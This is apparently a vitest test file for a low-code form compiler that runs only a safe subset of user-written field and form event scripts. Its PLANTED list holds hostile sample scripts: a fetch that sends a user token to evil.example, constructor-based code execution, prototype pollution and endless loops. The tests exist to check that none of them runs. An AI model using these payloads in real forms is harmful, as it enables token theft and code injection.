import { createFormStore } from '@milepost/kit/forms/store';
import type { RuleWords } from '@milepost/kit/forms/store';
import { formConfig } from '@milepost/openapi/domains/model';
import { readScript } from '@milepost/openapi/domains/design/rules';
import { expect, test, vi } from 'vitest';
import { compileForm } from './form.ts';

const control = (field: string, on: object = {}, jnpfKey = 'comInput', config: object = {}) => ({
  __vModel__: field,
  on,
  __config__: { jnpfKey, label: field, ...config },
});
const design = (fields: readonly object[], funcs: object = {}) => formConfig.decode({ fields, funcs } as never);

/** A form of a design, over a record; what its rules say is heard. */
function filledIn(fields: readonly object[], funcs: object = {}, record: object = {}) {
  const form = compileForm(design(fields, funcs));
  const store = createFormStore<Record<string, unknown>>(form.spec, record);
  const told = vi.fn<(words: RuleWords) => void>();
  store.subscribeRules(told);
  return { form, store, told };
}

test('a script at a change shows, requires and sets as its design means it', () => {
  const change = `({ data, formData, setRequired, setShowOrHide, setFormData }) => {
    // what lane it is decides
    const isFirst = data === 'lane1';
    setRequired('safety', isFirst);
    if (!isFirst && formData.people > 2) { setShowOrHide('note', false); } else setFormData('note', \`x\`);
  }`.replace('`x`', "'lane ' + data");
  const { form, store } = filledIn([control('lane', { change }), control('safety'), control('note'), control('people')], {}, { people: 3 });
  expect(form.rules.unread).toEqual([]);
  store.set('lane', 'lane1');
  expect(store.state('safety').isRequired).toBe(true);
  expect(store.value('note')).toBe('lane lane1');
  store.set('lane', 'lane2');
  expect(store.state('safety').isRequired).toBe(false);
  expect(store.state('note').isShown).toBe(false);
});

test.each<[string, string | null]>([
  ['`lane ${data} of ${formData.people + 1}`', 'lane a of 4'],
  ['`${data === "a" ? "first" : "other"}`', 'first'],
  ['`plain \\` and \\${text}` + "!"', 'plain ` and ${text}!'],
  ['`$5 ${data}`', '$5 a'],
  ['``', ''],
  ['`${alert(1)}`', null],
  ['`${`${data}`}`', null],
  ['`${data`', null],
  ['`${}`', null],
  ['alert`1`', null],
])('a template %s becomes %s', (template, text) => {
  const change = `({ data, formData, setFormData }) => { setFormData('note', ${template}); }`;
  const { form, store } = filledIn([control('lane', { change }), control('note'), control('people')], {}, { people: 3, note: 'before' });
  expect(form.rules.unread).toHaveLength(text === null ? 1 : 0);
  store.set('lane', 'a');
  expect(store.value('note')).toBe(text ?? 'before');
});

test('a loaded form begins as its rules have it, and a rule before saving may refuse', () => {
  const { store, told } = filledIn(
    [control('people'), control('budget')],
    {
      onLoad: "({ formData, setShowOrHide }) => { setShowOrHide('budget', formData.people > 0); }",
      beforeSubmit:
        "({ formData }) => { return new Promise((resolve, reject) => { if (formData.people > 200) { reject('Too many'); } else { resolve(); } }); }",
    },
    { people: 0 },
  );
  expect(store.state('budget').isShown).toBe(false);
  store.set('people', 201);
  expect(store.tryToSave()).toBe(false);
  expect(told).toHaveBeenCalledExactlyOnceWith({ kind: 'refused', text: 'Too many', tone: 'error' });
  store.set('people', 20);
  expect(store.tryToSave()).toBe(true);
});

test('rules that set each other off in a circle end, and values stay', () => {
  const sets = (field: string) => ({ change: `({ data, setFormData }) => { setFormData('${field}', data + 1); }` });
  const { store } = filledIn([control('a', sets('b')), control('b', sets('a'))], {}, { a: 0, b: 0 });
  store.set('a', 1);
  expect(Number(store.value('a'))).toBeGreaterThan(1);
  expect(Number(store.value('b'))).toBeLessThan(100);
});

test('formulas follow what a rule sets', () => {
  const fields = [
    control('a', { change: "({ data, setFormData }) => { setFormData('n', Number(data) * 2); }" }),
    control('n', {}, 'numInput'),
    { ...control('sum', {}, 'calculate'), expression: ['n', '+', '1'] },
  ];
  const { store } = filledIn(fields, {}, { a: '', n: 0, sum: 1 });
  store.set('a', '4');
  store.tryToSave();
  expect(store.snapshot()).toMatchObject({ n: 8, sum: 9 });
});

const PLANTED = [
  "({ onlineUtils }) => { fetch('https://evil.example/?' + onlineUtils.getUserInfo().token); }",
  'constructor.constructor("alert(1)")()',
  '() => { while (true) {} }',
  '(() => { globalThis.planted = true; })()',
  "({ formData }) => { formData['__proto__'].planted = true; }",
  "({ setFormData }) => { setFormData('a', window.planted = true); }",
  "({ setFormData }) => { setFormData('__proto__', 1); }",
  "({ formData, setFormData }) => { setFormData('a', formData.constructor); }",
  "({ setFormData }) => { setFormData('a', `${globalThis.planted = 1}`); }",
  "({ request }) => { request('/api/x'); }",
  'async ({ formData }) => { await formData; }',
  "({ setFormData }) => { setFormData('a', 1) /* ",
  `({ setFormData }) => { setFormData('a', ${'('.repeat(40)}1${')'.repeat(40)}); }`,
  `({ setFormData }) => { ${"setFormData('a', 1);".repeat(201)} }`,
  `({}) => { ${' '.repeat(4000)} }`,
  "({ setFormData }) => { setFormData('nobody', 1); }",
];

test.each(PLANTED)('a script outside of the subset is not run, wherever it is planted: %s', (script) => {
  const on = { change: script, blur: script, click: script, tabClick: script };
  const column = control('cell', on);
  const fields = [
    control('a', on),
    { ...control('t', on, 'table', { children: [column] }) },
    { on, __config__: { jnpfKey: 'card', label: 'card', children: [control('inside', on)] } },
  ];
  const { form, store } = filledIn(fields, { onLoad: script, beforeSubmit: script, afterSubmit: script }, { a: 'kept' });
  store.set('inside', 'x');
  store.set('a', 'typed');
  expect(store.tryToSave()).toBe(true);
  expect(store.value('a')).toBe('typed');
  expect(form.rules.rules).toEqual([]);
  expect(form.rules.isSaveUnread).toBe(true);
  // Three of the form, and four at each of the five controls.
  expect(form.rules.unread).toHaveLength(3 + 4 * 5);
  expect(Reflect.get(globalThis, 'planted')).toBeUndefined();
  expect(Reflect.get({}, 'planted')).toBeUndefined();
});

const SETS = "({ setFormData }) => { setFormData('a', 1); }";
const unreadOf = (fields: readonly object[], funcs: object = {}) => compileForm(design(fields, funcs)).rules.unread;

test.each<[string, object, object]>([
  ['its label and its event', control('a', { blur: SETS }), { label: 'a', event: 'blur' }],
  ['the label of its design', control('a', { click: SETS }, 'comInput', { label: 'Lane' }), { label: 'Lane', event: 'click' }],
  ['its key where it has no label', control('a', { change: 'run()' }, 'comInput', { label: '' }), { label: 'a', event: 'change' }],
  ['an event of its kind', control('a', { tabClick: SETS }), { label: 'a', event: 'tabClick' }],
  ['what is no text', control('a', { blur: '', tabClick: 7 }), { label: 'a', event: 'tabClick' }],
])('a script that is not run is named by %s', (_, field, unread) => expect(unreadOf([field])).toEqual([unread]));

test('scripts of the form that are not run are named by their events, those after saving always', () => {
  expect(unreadOf([control('a')], { onLoad: 'run()', beforeSubmit: 'run()', afterSubmit: SETS })).toEqual([
    { label: '', event: 'onLoad' },
    { label: '', event: 'beforeSubmit' },
    { label: '', event: 'afterSubmit' },
  ]);
});

test('an event without a script is none', () => expect(unreadOf([control('a', { tabClick: null, blur: '' })])).toEqual([]));

test('a rule at a change runs at a field of the form alone: in a card too, in a row or at what has no value it does not', () => {
  const card = (on: object, ...children: readonly object[]) => ({ on, __config__: { jnpfKey: 'card', label: 'Card', children } });
  const inside = control('inside', { change: SETS });
  const table = { ...control('works'), __config__: { jnpfKey: 'table', label: 'works', children: [control('item', { change: SETS })] } };
  const { rules, unread } = compileForm(design([control('a'), card({ change: SETS }, inside), table])).rules;
  expect(rules.map(({ on }) => on)).toEqual([{ change: 'inside' }]);
  expect(unread).toEqual([
    { label: 'Card', event: 'change' },
    { label: 'item', event: 'change' },
  ]);
});

test('a rule sets no column of a sub-table, and no control without a key', () => {
  const table = { ...control('works'), __config__: { jnpfKey: 'table', label: 'works', children: [control('item')] } };
  const sets = (field: string) => control('a', { change: `({ setFormData }) => { setFormData('${field}', 1); }` });
  expect(unreadOf([sets('item'), table])).toEqual([{ label: 'a', event: 'change' }]);
  expect(unreadOf([sets(''), { __config__: { jnpfKey: 'divider', label: 'Line' } }])).toEqual([{ label: 'a', event: 'change' }]);
  expect(unreadOf([sets('works'), table])).toEqual([]);
});

test('a declared rule nobody can read is named by its own name', () => {
  const { rules } = compileForm(
    formConfig.decode({ fields: [control('a')], milepostRules: [{ id: 'lanes', on: 'never' }, 7, { id: '' }] } as never),
  );
  expect(rules).toEqual({
    rules: [],
    unread: ['lanes', 'milepostRules[1]', 'milepostRules[2]'].map((label) => ({ label, event: 'milepostRules' })),
    isSaveUnread: true,
  });
});

test.each(['', '  ', '// to be written', '({ formData, setFormData }) => {\n  // to be written\n\n}', '() => { /* none */ }'])(
  'a script that does nothing is none: %j',
  (script) => {
    expect(compileForm(design([control('a', { change: script, blur: script })], { onLoad: script })).rules).toEqual({
      rules: [],
      unread: [],
      isSaveUnread: false,
    });
  },
);

test.each<[string, unknown]>([
  ["data === 'x' ? 1 : 2", 1],
  ["formData['b'].length + 1", 4],
  ["formData.b.includes('b') && !false", true],
  ["Number('2') * 3 - -1", 7],
  ["formData.nothing ?? 'none'", 'none'],
  ['formData.nothing == null', true],
  ['7 % 4 > 2 || false', true],
])('%s is worked out', (text, value) => {
  const { store } = filledIn(
    [control('a', { change: `({ data, formData, setFormData }) => { setFormData('out', ${text}) }` }), control('b'), control('out')],
    {},
    { b: 'abc' },
  );
  store.set('a', 'x');
  expect(store.value('out')).toBe(value);
});

test('a text that is no script at all is not understood', () => {
  expect(readScript('{', { own: null, fields: new Set() })).toBeNull();
});
